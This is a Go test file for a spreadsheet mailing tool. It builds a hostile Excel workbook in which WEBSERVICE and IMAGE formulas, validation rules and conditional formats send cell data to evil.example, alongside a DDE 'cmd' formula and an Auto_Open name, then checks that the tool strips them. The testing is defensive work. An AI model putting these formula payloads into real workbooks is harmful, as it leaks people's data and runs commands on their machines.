package main

import (
	archive "archive/zip"
	"errors"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
)

// hostileList is a list of two customers, one of them without e-mail, with
// formulas, links and rules that call evil.example.
func hostileList(t *testing.T, path string) {
	t.Helper()
	f := excelize.NewFile()
	const s = "Sheet1"
	var all []error
	for i, line := range strings.Split(strings.TrimSpace(twoMistakes), "\n")[:3] {
		for j, cell := range strings.Split(line, ",") {
			at, err := excelize.CoordinatesToCellName(j+1, i+1)
			all = append(all, err, f.SetCellStr(s, at, cell))
		}
	}
	rule := excelize.NewDataValidation(true)
	rule.Sqref, rule.Type, rule.Formula1 = "B2:B9", "custom", `WEBSERVICE("https://evil.example/"&amp;B2)`
	all = append(all,
		f.SetCellFormula(s, "I2", `WEBSERVICE("https://evil.example/"&C2)`), f.SetCellFormula(s, "J2", `IMAGE("https://evil.example/"&C2)`), f.SetCellFormula(s, "K3", `cmd|'/c evil.example'!A1`),
		f.SetCellHyperLink(s, "C2", "https://evil.example/", "External"), f.AddDataValidation(s, rule),
		f.SetDefinedName(&excelize.DefinedName{Name: "Auto_Open", RefersTo: "Sheet1!$A$1"}), f.SetDefinedName(&excelize.DefinedName{Name: "Fetch", RefersTo: `WEBSERVICE("https://evil.example/")`}),
		f.SetConditionalFormat(s, "A2:A9", []excelize.ConditionalFormatOptions{{Type: "formula", Criteria: `WEBSERVICE("https://evil.example/")=1`}}),
		f.SaveAs(path), f.Close())
	if err := errors.Join(all...); err != nil {
		t.Fatal(err)
	}
}

// TestHostileAnnotate: the workbook that comes back beside the customers' links
// has nothing of the sender's that acts or leads elsewhere.
func TestHostileAnnotate(t *testing.T) {
	t.Parallel()
	for name, args := range map[string][]string{
		"validate": {"validate", "--annotate", "marked.xlsx", "in.xlsx"},
		"run":      {"run", "--sandbox", "--rate", "unlimited", "--annotate", "marked.xlsx", "in.xlsx"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			dir := t.TempDir()
			hostileList(t, filepath.Join(dir, "in.xlsx"))
			c := command(t, dir, args...)
			var people strings.Builder
			c.Stderr = &people
			if _, err := c.Output(); exitOfProcess(t, err) != 3 {
				t.Fatalf("%v\n%s", err, &people)
			}
			for _, want := range []string{"left out of marked.xlsx for safety: ", "3 formulas (their last values are kept)", "1 hyperlink", "1 data validation", "1 conditional format", "2 defined names"} {
				if !strings.Contains(people.String(), want) {
					t.Errorf("does not say %q:\n%s", want, &people)
				}
			}
			z, err := archive.OpenReader(filepath.Join(dir, "marked.xlsx"))
			if err != nil {
				t.Fatal(err)
			}
			defer z.Close()
			links := false
			for _, f := range z.File {
				r, err := f.Open()
				if err != nil {
					t.Fatal(err)
				}
				text, err := io.ReadAll(r)
				if err != nil {
					t.Fatal(err)
				}
				links = links || strings.Contains(string(text), "verify")
				for _, evil := range []string{"evil.example", "WEBSERVICE", "Auto_Open", "TargetMode=\"External\"", "<f>", "<f "} {
					if strings.Contains(string(text), evil) {
						t.Errorf("%s has %s", f.Name, evil)
					}
				}
			}
			if name == "run" && !links {
				t.Error("no link was written")
			}
		})
	}
}

// TestHostileFormulaIsNoConsent: what has to be said by somebody is said by a
// formula, which the list that comes back no longer shows. Handed in again, it
// still says nothing.
func TestHostileFormulaIsNoConsent(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	hostileList(t, filepath.Join(dir, "in.xlsx"))
	f, err := excelize.OpenFile(filepath.Join(dir, "in.xlsx"))
	if err != nil {
		t.Fatal(err)
	}
	if err := errors.Join(f.SetCellBool("Sheet1", "G2", true), f.SetCellFormula("Sheet1", "G2", `A2<>""`), f.Save(), f.Close()); err != nil {
		t.Fatal(err)
	}
	for _, args := range [][]string{{"--annotate", "marked.xlsx", "in.xlsx"}, {"marked.xlsx"}} {
		out, err := command(t, dir, append([]string{"validate"}, args...)...).CombinedOutput()
		if code := exitOfProcess(t, err); code != 3 || !strings.Contains(string(out), "0  ready to send") {
			t.Errorf("%v: exit %d\n%s", args, code, out)
		}
	}
}

// TestHostileDamagedWorkbook: a workbook that does not unpack is refused with
// its name and place, also by commands that write it back.
func TestHostileDamagedWorkbook(t *testing.T) {
	t.Parallel()
	data, err := os.ReadFile("testdata/hostile/corrupt-flate.xlsx")
	if err != nil {
		t.Fatal(err)
	}
	for _, args := range [][]string{
		{"validate", "list.xlsx"}, {"validate", "--annotate", "marked.xlsx", "list.xlsx"}, {"run", "--sandbox", "list.xlsx"},
		{"ledger", "import", "--sandbox", "list.xlsx"}, {"plan", "--sandbox", "list.xlsx"},
	} {
		t.Run(strings.Join(args, " "), func(t *testing.T) {
			t.Parallel()
			dir := t.TempDir()
			if err := os.WriteFile(filepath.Join(dir, "list.xlsx"), data, 0o600); err != nil {
				t.Fatal(err)
			}
			out, err := command(t, dir, args...).CombinedOutput()
			if code := exitOfProcess(t, err); code != 2 || !strings.Contains(string(out), "list.xlsx") || strings.Contains(string(out), "panic") {
				t.Errorf("exit %d\n%s", code, out)
			}
		})
	}
}
